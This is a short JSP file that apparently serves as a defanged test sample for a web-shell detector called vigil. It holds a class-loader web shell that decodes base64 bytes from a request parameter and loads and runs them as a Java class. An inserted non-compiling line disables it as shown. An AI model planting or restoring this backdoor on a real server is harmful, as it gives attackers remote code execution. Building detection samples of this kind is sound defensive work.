<%-- DEFANGED vigil test sample (see README): the scriptlet below does not compile. --%>
<% DEFANGED_SAMPLE_DOES_NOT_COMPILE %>
<%!
    class L extends ClassLoader {
        L(ClassLoader c) { super(c); }
        public Class g(byte[] b) { return super.defineClass(b, 0, b.length); }
    }
%>
<%
    byte[] b = java.util.Base64.getDecoder().decode(request.getParameter("c"));
    new L(this.getClass().getClassLoader()).g(b).newInstance();
%>
